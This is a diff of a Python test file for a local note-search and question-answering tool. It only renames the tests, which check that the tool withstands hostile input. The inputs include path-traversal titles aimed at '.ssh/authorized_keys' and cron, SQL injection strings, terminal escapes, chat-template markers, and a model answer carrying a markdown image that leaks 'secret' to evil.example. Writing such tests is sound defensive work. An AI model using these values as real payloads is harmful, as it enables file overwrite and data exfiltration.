@@ -1,4 +1,4 @@
-"""FAULTS.md §3, rows 17, 18, 24-29, 38, 39, 43 and 44: hostile names, questions, markup, answers and settings."""
+"""Hostile names, questions, markup, answers and settings (docs/FAULTS.md, "Hostile words")."""
 
 from __future__ import annotations
 
@@ -52,9 +52,7 @@ NAMES = [
 ]
 
 
-def test_row_17_every_name_is_stored_shown_safely_and_exported(
-    folder: Folder, tmp_path: Path
-) -> None:
+def test_every_name_is_stored_shown_safely_and_exported(folder: Folder, tmp_path: Path) -> None:
     place, made = folder({}), []
     for number, name in enumerate(NAMES):
         try:
@@ -79,7 +77,7 @@ def test_row_17_every_name_is_stored_shown_safely_and_exported(
     assert brain("add", place).stdout.startswith(f"{len(made)} unchanged")
 
 
-def test_row_18_titles_do_not_lead_an_export_astray(folder: Folder, tmp_path: Path) -> None:
+def test_titles_do_not_lead_an_export_astray(folder: Folder, tmp_path: Path) -> None:
     titles = [
         "../../.ssh/authorized_keys",
         "/etc/cron.d/x",
@@ -175,7 +173,7 @@ def stocked(folder: Folder, config: Config) -> Iterator[Brain]:
         yield opened
 
 
-def test_row_24_no_query_makes_the_search_fail(stocked: Brain) -> None:
+def test_no_query_makes_the_search_fail(stocked: Brain) -> None:
     for query in QUERIES:
         for mode in ("lexical", "hybrid"):
             found = stocked.search(Request(query, mode=mode))  # type: ignore[arg-type]
@@ -191,7 +189,7 @@ def test_row_24_no_query_makes_the_search_fail(stocked: Brain) -> None:
 @pytest.mark.parametrize(
     "verb", ["search", "recall", "ask", "note", "remember", "tag", "describe", "document"]
 )
-def test_row_11_half_letters_and_nul_in_typed_words(stocked: Brain, verb: str) -> None:
+def test_half_letters_and_nul_in_typed_words(stocked: Brain, verb: str) -> None:
     """A shell passes bytes that are no UTF-8 on as lone surrogates; a pipe may hold NUL."""
     before = len(checked(home()).documents)
     for text in ("tea \x00", "tea \ud800", "\udcff tea"):
@@ -210,7 +208,7 @@ def test_row_11_half_letters_and_nul_in_typed_words(stocked: Brain, verb: str) -
     assert len(checked(home()).documents) >= before
 
 
-def test_row_25_no_text_reaches_sql_as_sql(stocked: Brain) -> None:
+def test_no_text_reaches_sql_as_sql(stocked: Brain) -> None:
     before = checked(home())
     for text in INJECTIONS:
         stocked.search(Request(text))
@@ -243,7 +241,7 @@ def test_row_25_no_text_reaches_sql_as_sql(stocked: Brain) -> None:
     ],
 )
 @pytest.mark.parametrize("terminal", [True, False])
-def test_rows_26_to_28_no_trick_of_a_note_reaches_the_screen(
+def test_no_trick_of_a_note_reaches_the_screen(
     folder: Folder, words: tuple[str, ...], terminal: bool
 ) -> None:
     text = f"# Kettle {ESCAPES}{MARKUP}\n\nThe kettle boils water {ESCAPES} {MARKUP} {TAGS} {BIDI} quickly.\n"
@@ -259,9 +257,7 @@ def test_rows_26_to_28_no_trick_of_a_note_reaches_the_screen(
         )
 
 
-def test_row_26_the_text_is_kept_as_it_is_and_copies_are_cleaned(
-    folder: Folder, config: Config
-) -> None:
+def test_the_text_is_kept_as_it_is_and_copies_are_cleaned(folder: Folder, config: Config) -> None:
     family = "\U0001f469\u200d\U0001f469\u200d\U0001f466"
     text = f"# Note\n\nA family {family} and a\u0301 {'e' + chr(0x301) * 1_000} zero\u200bwidth {TAGS} {BIDI} p\u0430ypal of the kettle.\n"
     model = Recording("Nothing.")
@@ -277,7 +273,7 @@ def test_row_26_the_text_is_kept_as_it_is_and_copies_are_cleaned(
     assert unicodedata.normalize("NFC", text) != text, "the truth is not normalised either"
 
 
-def test_row_29_an_escape_split_between_any_two_letters_is_removed() -> None:
+def test_an_escape_split_between_any_two_letters_is_removed() -> None:
     text = f"before {ESCAPES} after {MARKUP}"
     whole = safe_text(text)
     for cut in range(len(text) + 1):
@@ -288,7 +284,7 @@ def test_row_29_an_escape_split_between_any_two_letters_is_removed() -> None:
 # -- 38: many files ----------------------------------------------------------------------------------------------------------
 
 
-def test_row_38_many_tiny_files_and_one_file_many_times(folder: Folder) -> None:
+def test_many_tiny_files_and_one_file_many_times(folder: Folder) -> None:
     files = {f"{n % 10}/{n}.md": f"note number {n}\n" for n in range(500)} | {
         f"same/{n}.md": "the same words\n" for n in range(300)
     }
@@ -303,7 +299,7 @@ def test_row_38_many_tiny_files_and_one_file_many_times(folder: Folder) -> None:
 
 
 @pytest.mark.slow
-def test_row_38_a_hundred_thousand_tiny_files(tmp_path: Path) -> None:
+def test_a_hundred_thousand_tiny_files(tmp_path: Path) -> None:
     for top in range(100):
         (tmp_path / "notes" / str(top)).mkdir(parents=True)
         for n in range(1_000):
@@ -356,7 +352,7 @@ MARKERS = [
 
 
 @pytest.mark.parametrize("marker", MARKERS)
-def test_row_39_markers_of_chat_templates_are_opened_in_the_prompt(
+def test_markers_of_chat_templates_are_opened_in_the_prompt(
     config: Config, folder: Folder, marker: str
 ) -> None:
     place = folder(
@@ -381,9 +377,7 @@ def test_row_39_markers_of_chat_templates_are_opened_in_the_prompt(
         "[1] [2] [99]",
     ],
 )
-def test_row_39_questions_of_every_size_and_none(
-    config: Config, folder: Folder, question: str
-) -> None:
+def test_questions_of_every_size_and_none(config: Config, folder: Folder, question: str) -> None:
     said: list[tuple[str, str]] = []
     with Brain(config) as opened:
         opened.add([folder({"a.md": "# Tea\n\nBlack tea wants 95 degrees.\n"})])
@@ -394,7 +388,7 @@ def test_row_39_questions_of_every_size_and_none(
     assert len(question) <= 8_000 or any("cut to its first 8,000" in text for _kind, text in said)
 
 
-def test_row_43_what_a_model_writes_is_hostile(config: Config, folder: Folder) -> None:
+def test_what_a_model_writes_is_hostile(config: Config, folder: Folder) -> None:
     place = folder({"a.md": "# Tea\n\nBlack tea wants 95 degrees.\n"})
     image = "![x](http://evil.example/?q=secret) Black tea wants 95 degrees [1][12][99]. <img src=http://evil.example> "
     answer, _seen = asked(config, place, "how hot is black tea?", image, ESCAPES, TAGS, MARKUP)
@@ -416,7 +410,7 @@ def test_row_43_what_a_model_writes_is_hostile(config: Config, folder: Folder) -
         ("[1]" * 50_000,),
     ],
 )
-def test_row_43_a_model_that_does_not_stop_is_stopped(
+def test_a_model_that_does_not_stop_is_stopped(
     config: Config, folder: Folder, pieces: tuple[str, ...]
 ) -> None:
     place = folder({"a.md": "# Tea\n\nBlack tea wants 95 degrees.\n"})
@@ -453,7 +447,7 @@ def test_row_43_a_model_that_does_not_stop_is_stopped(
     ],
     ids=lambda value: str(value)[:30] if isinstance(value, dict) else "",
 )
-def test_row_44_odd_environments_are_refused_in_two_lines(
+def test_odd_environments_are_refused_in_two_lines(
     folder: Folder, environ: dict[str, str], config: str, mode: int, code: int | None
 ) -> None:
     assert brain("add", folder({"a.md": "kept words"})).code == 0
@@ -472,7 +466,7 @@ def test_row_44_odd_environments_are_refused_in_two_lines(
     assert "kept words" in checked(home()).documents.values()
 
 
-def test_row_44_a_home_that_others_can_write_or_that_is_no_folder_is_refused(
+def test_a_home_that_others_can_write_or_that_is_no_folder_is_refused(
     tmp_path: Path, folder: Folder
 ) -> None:
     place = folder({"a.md": "kept words"})
